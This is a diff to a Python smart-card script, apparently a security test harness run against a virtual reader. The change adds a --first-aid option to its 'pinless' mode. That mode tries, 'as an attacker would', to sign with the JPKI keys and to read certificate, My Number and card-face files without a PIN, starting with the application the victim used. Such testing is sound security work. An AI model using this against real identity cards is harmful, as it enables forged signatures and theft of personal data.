@@ -11,7 +11,8 @@ Modes (all talk to the first reader, "Virtual PCD 00 00"):
   pinless  take the card once and try, as an attacker would (selecting each application first),
            everything a verified PIN opens: COMPUTE DIGITAL SIGNATURE with the auth and the sign key,
            READ BINARY of the sign certificate, the card-text files and the card-face file. Counts
-           the 90 00 answers ("pinless"): each is something done without a PIN.
+           the 90 00 answers ("pinless"): each is something done without a PIN. --first-aid: the
+           application to try first (selecting another one clears its PINs).
   spend    once --trigger-file exists, wait for the card and send one VERIFY with --pin to the
            PIN EF --fid of the application --aid.
 Prints one JSON line with what happened. Uses Debian's python3-pyscard (run /usr/bin/python3).
@@ -169,7 +170,7 @@ CARD_TEXT_AID = bytes.fromhex("D3921000310001010408")
 CARD_FACE_AID = bytes.fromhex("D3921000310001010402")
 
 
-def pinless(_args):
+def pinless(args):
     card = Card()
     card.begin()
     answers = {}
@@ -178,6 +179,10 @@ def pinless(_args):
     probes = [("sign-auth-key", JPKI_AID, 0x0017, sign), ("sign-sign-key", JPKI_AID, 0x001A, sign),
               ("read-sign-certificate", JPKI_AID, 0x0001, read), ("read-my-number", CARD_TEXT_AID, 0x0001, read),
               ("read-card-text", CARD_TEXT_AID, 0x0002, read), ("read-card-face", CARD_FACE_AID, 0x0002, read)]
+    # Selecting another application clears the last one's PINs on a real card: try the one the
+    # victim used first (--first-aid), as an attacker who knows the kiosk would.
+    first = bytes.fromhex(args.first_aid) if args.first_aid else JPKI_AID
+    probes.sort(key=lambda probe: probe[1] != first)
     for name, aid, fid, command in probes:
         card.send(select_df(aid))
         card.send(select_ef(fid))
@@ -200,6 +205,7 @@ def main():
     parser.add_argument("--trigger-file")
     parser.add_argument("--aid", default=JPKI_AID.hex())
     parser.add_argument("--fid", default="0018")
+    parser.add_argument("--first-aid")
     args = parser.parse_args()
     result = {"attack": attack, "leak": leak, "hold": hold, "reset": reset, "spend": spend,
               "pinless": pinless}[args.mode](args)
